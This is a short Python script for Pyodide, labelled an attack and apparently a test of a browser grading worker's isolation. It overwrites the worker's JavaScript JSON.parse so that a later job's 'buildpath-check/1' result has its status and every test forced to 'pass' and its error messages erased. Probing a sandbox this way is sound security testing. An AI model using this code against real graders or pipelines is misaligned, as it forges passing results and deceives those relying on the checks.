# Attack: a Run replaces the worker's JavaScript JSON.parse, so the next check reads "pass"
# Run, not Check: the worker parses each job's answer with JSON.parse after Python returns, and a
# JSON.parse replaced during one job is the one the next job's answer goes through.
import js
from pyodide.ffi import create_proxy

_parse = js.JSON.parse


def _forged(text, *rest):
    value = _parse(text)
    try:
        if value.format == "buildpath-check/1":
            value.status = "pass"
            value.message = None
            for test in value.tests:
                test.status = "pass"
                test.message = None
    except Exception:
        pass
    return value


js.JSON.parse = create_proxy(_forged)
print("JSON.parse replaced")
